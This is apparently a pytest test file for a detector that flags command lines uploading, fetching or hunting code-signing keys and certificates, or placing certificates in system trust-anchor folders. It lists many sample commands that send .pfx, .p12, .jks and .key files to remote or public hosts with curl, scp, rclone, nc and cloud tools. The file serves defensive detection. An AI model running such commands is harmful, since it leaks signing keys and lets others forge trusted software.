"""Key and certificate files over the network: uploads, and downloads."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.model import Report

from tests.core.lines import ids, posix, windows


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("curl -T w.pfx https://host/", ["upload_key_file"]),
        # a letter before the colon is a drive: nothing leaves the network
        (
            "rclone copy \\\\fs1\\c$ Z:\\x --include *.{pfx,p12}",
            ["copy_key_files", "hunt_key_files", "input_remote", "several_key_kinds"],
        ),
        ("rclone copy D:\\keys E:\\keys --include *.pfx", ["copy_key_files"]),
        ("rclone copy D:\\keys E:\\keys", []),
        ("rclone copy D:\\keys E:\\keys --exclude *.pfx", []),
        ("curl -F file=@C:\\c\\w.pfx;type=x https://host/", ["upload_key_file"]),
        ("curl --data-binary @w.key https://host/", ["upload_key_file"]),
        ("curl -sF f=@ca.pem https://host/", ["upload_pem_file"]),
        ("curl --cert c.pem --key k.key --cacert ca.pem https://host/", []),
        ("curl -d user@example.org https://host/x.key", []),
        ("curl -o w.pfx https://host/x", ["fetch_key"]),
        ("curl -sO https://host/w.pfx?x=1", ["fetch_key"]),
        ("curl -o ca.crt https://host/ca.crt", ["fetch_certificate"]),
        ("curl -o release.key https://host/release.key", []),
        ("wget --post-file=w.p12 https://host/", ["upload_key_file"]),
        ("wget https://host/w.p12", ["fetch_key"]),
        ("scp w.pfx ann@host:/srv", ["upload_key_file"]),
        ("scp -i login.pem app.jar ann@host:/srv", []),
        ("scp ann@host:/srv/w.pfx .", ["fetch_key"]),
        ("pscp -pw letmein C:\\c\\w.pfx ann@host:/srv", ["upload_key_file"]),
        ("rsync -a w.jks host:/srv", ["upload_key_file"]),
        # a web server's own, to a host with a name; by its number, it is somebody's
        ("scp site.pem site.key ann@web:/etc/nginx/ssl/", ["upload_pem_file"]),
        ("scp site.key ann@192.168.0.7:/srv", ["upload_key_file"]),
        ("curl -T site.key https://host/", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --include *.pfx", ["hunt_key_files", "upload_key_file"]),
        (
            "rclone copy C:\\Users cloud:x --max-size 5M --include *.{pfx,p12}",
            ["hunt_key_files", "several_key_kinds", "upload_key_file"],
        ),
        ("rclone copy cloud:x C:\\w --include *.pfx", []),
        # under another name
        ("rc.exe copy C:\\Users mg:cs --include *.pfx --config C:\\c.conf", ["hunt_key_files", "upload_key_file"]),
        ("rc.exe copy C:\\Users C:\\x --include *.pfx --config C:\\c.conf", ["copy_key_files", "hunt_key_files"]),
        ("rc.exe copy w.pfx mg:cs", []),
        ("curl -T w.pfx https://transfer.sh/w", ["key_to_outside", "upload_key_file"]),
        ("curl -T w.pfx https://198.51.100.7/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@198.51.100.7:/tmp/", ["key_to_outside", "upload_key_file"]),
        ("scp w.jks root@192.168.0.7:/tmp/", ["upload_key_file"]),
        ("rclone copy C:\\Users cloud:x --exclude *.pfx", []),
        ("aws s3 cp w.pfx s3://bucket/", ["upload_key_file"]),
        ("aws s3 cp s3://bucket/w.pfx .", ["fetch_key"]),
        ("azcopy copy w.pfx https://host/c", ["upload_key_file"]),
        ("bitsadmin /transfer j /upload http://host/w.pfx C:\\c\\w.pfx", ["upload_key_file"]),
        ("bitsadmin /transfer j http://host/w.pfx C:\\c\\w.pfx", ["fetch_key"]),
        ("tftp -i host PUT w.pfx", ["upload_key_file"]),
        ('winscp.com /command "open sftp://host" "put C:\\c\\w.pfx"', ["upload_key_file"]),
        ("nc host 4444 < w.p12", ["upload_key_file"]),
    ],
)
def test_network(line: str, indicators: list[str]) -> None:
    report = keyfiles.judge(windows(line))
    assert found(report) == indicators
    assert report is None or not any("letmein" in finding.sentence for finding in report.findings)


def told(line: str) -> list[str]:
    report = keyfiles.judge(windows(line))
    return [finding.sentence for finding in report.findings] if report else []


@pytest.mark.parametrize(
    ("line", "sentences"),
    [
        ("curl -T w.pfx https://host/", ["curl sends the key file w.pfx to another host"]),
        ("curl -T C:\\c\\w.pfx https://host/", ["curl sends the key file w.pfx to another host"]),
        ("curl -T w.pem https://host/", ["curl sends the file w.pem, which may hold a key"]),
        (
            "scp w.pfx v.pvk root@198.51.100.7:/tmp",
            [
                "scp sends the key file w.pfx to another host",
                "several kinds of key files at once",
                "the key is sent to a bare public address or a public file drop",
            ],
        ),
        ("curl -o w.pfx https://host/x", ["curl fetches the key file w.pfx"]),
        ("curl -O https://host/ca.cer?x=1", ["curl fetches the certificate file ca.cer"]),
        (
            "rclone copy C:\\ cloud:x --include *.pfx",
            [
                "rclone sends the key file x.pfx to another host",
                "rclone takes them from a whole drive or home",
            ],
        ),
    ],
)
def test_it_is_told_in_sentences(line: str, sentences: list[str]) -> None:
    assert told(line) == sentences


@pytest.mark.parametrize(
    ("line", "action", "files"),
    [
        ("curl -T C:\\c\\w.pfx https://host/", "upload_key", ["c:\\c\\w.pfx"]),
        ("curl -T *.pfx https://host/", "upload_key", []),
        ("curl -o C:\\c\\w.pfx https://host/", "fetch_key", ["c:\\c\\w.pfx"]),
        ("curl -O https://host/w.pfx", "fetch_key", []),
        ("curl -o - https://host/w.pfx", "fetch_key", []),
        ("curl -o C:\\c\\w.cer https://host/", "fetch_certificate", ["c:\\c\\w.cer"]),
        ("scp fs:/x/w.pfx C:\\c\\v.pfx", "fetch_key", ["c:\\c\\v.pfx"]),
        ("scp fs:/x/w.pfx .", "fetch_key", []),
    ],
)
def test_the_action_and_the_files(line: str, action: str, files: list[str]) -> None:
    report = keyfiles.judge(windows(line))
    assert report is not None
    assert (report.action, report.files) == (action, files)


UPLOADS = [
    # curl(1): bodies and forms take a file behind @ or <
    *(f"curl {option} @w.pfx https://h/" for option in ("-d", "--data", "--data-ascii", "--data-binary", "--json")),
    *(f"curl {option} f=@w.pfx https://h/" for option in ("-F", "--form", "--data-urlencode")),
    "curl -F f=<w.pfx https://h/",
    "curl --upload-file w.pfx --url https://h/",
    *(f"wget --{option}=w.pfx https://h/" for option in ("post-file", "body-file")),
    *(f"{name} w.pfx fs:/x" for name in ("scp", "pscp", "rsync")),
    "scp -P 22 -l 8 -o A=b w.pfx fs:",
    "rsync -e ssh --exclude x w.pfx fs:",
    "rsync w.pfx rsync://h/x",
    *(f"rclone {verb} w.pfx cloud:x" for verb in "copy copyto move moveto sync bisync rcat copyurl".split()),
    *(f"{name} cp w.pfx s3://b/" for name in "aws gsutil gcloud azcopy az s3cmd s5cmd mc".split()),
    *(f"aws s3 {verb} w.pfx s3://b/" for verb in ("mv", "sync")),
    *(f"az storage blob {verb} -f w.pfx" for verb in ("upload", "upload-batch")),
    *("aws s3api put-object --body w.pfx", "s3cmd put w.pfx s3://b"),
    *(f"tftp h {verb} w.pfx" for verb in ("put", "mput", "PUT")),
    *(f"{name} h 1 < w.pfx" for name in ("nc", "ncat", "netcat")),
]


@pytest.mark.parametrize("line", UPLOADS)
def test_uploads(line: str) -> None:
    assert found(keyfiles.judge(windows(line))) == ["upload_key_file"]


FETCHES = [
    *("curl -o w.pfx https://h/x", "curl --output w.pfx https://h/x", "curl https://h/x > w.pfx"),
    *(f"curl {option} https://h/w.pfx" for option in ("-O", "--remote-name", "--remote-name-all")),
    *("wget https://h/w.pfx", "wget -O w.pfx https://h/x", "wget --output-document=w.pfx https://h/x"),
    *(f"{name} fs:/x/w.pfx C:\\c" for name in ("scp", "pscp", "rsync")),
    "scp fs:/x/w.pfx C:\\c\\v",
    *("aws s3 cp s3://b/w.pfx .", "tftp h get tftp://h/w.pfx", "bitsadmin /addfile j https://h/w.pfx C:\\x"),
]


@pytest.mark.parametrize("line", FETCHES)
def test_fetches(line: str) -> None:
    assert found(keyfiles.judge(windows(line))) == ["fetch_key"]


@pytest.mark.parametrize(
    "line",
    [
        # what curl and wget are given for the connection is no object of it
        *(
            f"curl --{option} w.pfx https://h/"
            for option in "cert key cacert capath proxy-cert proxy-key proxy-cacert pinnedpubkey config cookie".split()
        ),
        *(f"wget --{option}=w.pfx https://h/" for option in "certificate private-key ca-certificate".split()),
        *("curl -E w.pfx https://h/", "scp -i w.pfx a.txt fs:", "rsync --exclude w.pfx a fs:", "rsync -e w.pfx a fs:"),
        *(f"pscp {option} w.pfx a.txt fs:" for option in ("-i", "-pwfile", "-hostkey", "-load", "-l", "-P")),
        # nothing is saved, nothing is sent, or nothing of ours
        *(
            "curl https://h/w.pfx",
            "wget https://h/",
            "scp w.pfx",
            "scp w.pfx C:\\x",
            "nc h 1",
            "curl -F f=w.pfx https://h/",
        ),
        *("rclone copy w.pfx", "rclone ls cloud:x --include *.pfx", "aws s3 ls s3://b/w.pfx", "bitsadmin /list w.pfx"),
        *("curl -o a.key https://h/a.key", "curl -T a.cer https://h/"),
    ],
)
def test_nothing_to_say(line: str) -> None:
    assert keyfiles.judge(windows(line)) is None


def test_a_password_of_pscp_is_masked() -> None:
    for value, secrets in (("Sesame7", ["Sesame7"]), ("%PW%", []), ("***", [])):
        report = keyfiles.judge(windows(f"pscp -PW {value} w.pfx fs:"))
        assert report is not None
        assert report.secrets == secrets


@pytest.mark.parametrize(
    ("line", "sends"),
    [
        ("curl -T a https://h/", True),
        ("curl --upload-file a https://h/", True),
        ("curl -d @a https://h/", True),
        ("curl -d a https://h/", False),
        ("curl https://h/", False),
        ("wget --post-file=a https://h/", True),
        ("wget --body-file a https://h/", True),
        ("wget https://h/", False),
        *((f"{name} a fs:/x", True) for name in ("scp", "pscp", "rsync", "rclone")),
        *((f"{name} fs:/x a", False) for name in ("scp", "pscp", "rsync", "rclone")),
        ("scp fs:/x", False),
        # a letter is a drive
        ("scp a h:/x", False),
        ("scp a C:\\x", False),
        *((f"{name} h 1", True) for name in ("nc", "ncat", "netcat")),
        ("certutil -ping", False),
        ("", False),
    ],
)
def test_whether_a_line_sends_anything(line: str, sends: bool) -> None:
    assert keyfiles.sends(windows(line)) is sends


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("scp -r root@web:/etc/letsencrypt/archive /home/ann/x", ["fetch_key"]),
        ("scp -r /etc/ssl/private/ ann@h.example:/tmp", ["upload_key_file"]),
        ("scp -r root@web:/etc/nginx /home/ann/letsencrypt", []),
    ],
)
def test_folders_of_private_keys(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


def test_certificates_that_are_fetched_into_the_folders_of_anchors() -> None:
    report = keyfiles.judge(posix("curl -o /etc/pki/trust/anchors/a.pem https://h/a.pem"))
    assert report is not None
    assert (found(report), report.files, report.store) == (
        ["add_trust_anchor"],
        ["/etc/pki/trust/anchors/a.pem"],
        "linux\\root",
    )
    assert report.action == "add_to_store"


@pytest.mark.parametrize(
    ("line", "cwd", "indicators"),
    [
        ("curl -O https://h/a.crt", "/etc/pki/trust/anchors", ["add_trust_anchor"]),
        ("curl -o a.crt https://h/x", "/etc/pki/trust/anchors", ["add_trust_anchor"]),
        ("curl -O --output-dir /etc/pki/trust/anchors https://h/a.crt", "/srv", ["add_trust_anchor"]),
        ("curl -so /etc/pki/trust/anchors/a.crt http://203.0.113.6/a", "", ["add_trust_anchor", "input_bare_address"]),
        ("wget https://h/a.crt", "/etc/pki/trust/anchors", ["add_trust_anchor"]),
        ("wget -P anchors https://h/a.crt", "/etc/pki/trust", ["add_trust_anchor"]),
        ("wget -P /etc/ssl/certs https://h/a.crt", "", ["certificate_beside_roots"]),
        ("curl -O https://h/a.crt", "/srv", ["fetch_certificate"]),
        # on this host, and on another
        ("rsync -a certs/ /etc/pki/trust/anchors/", "/srv", ["add_trust_anchor"]),
        ("rsync -a /etc/pki/trust/anchors/ /srv/", "", []),
        ("rsync -a a.crt web1:/etc/pki/trust/anchors/", "", ["add_trust_anchor"]),
        ("rsync -a a.crt web1:/srv/", "", []),
        ("scp a.crt root@web1:/etc/pki/trust/anchors/a.crt", "", ["add_trust_anchor"]),
        ("scp root@web1:/srv/a.crt /etc/pki/trust/anchors/", "", ["add_trust_anchor"]),
    ],
)
def test_certificates_that_go_to_folders_of_anchors(line: str, cwd: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line, cwd))) == indicators


def test_an_anchor_from_a_host_without_a_name() -> None:
    report = keyfiles.judge(posix("wget -q http://203.0.113.6/a.crt -O /usr/local/share/ca-certificates/a.crt"))
    assert found(report) == ["add_trust_anchor", "input_bare_address"]
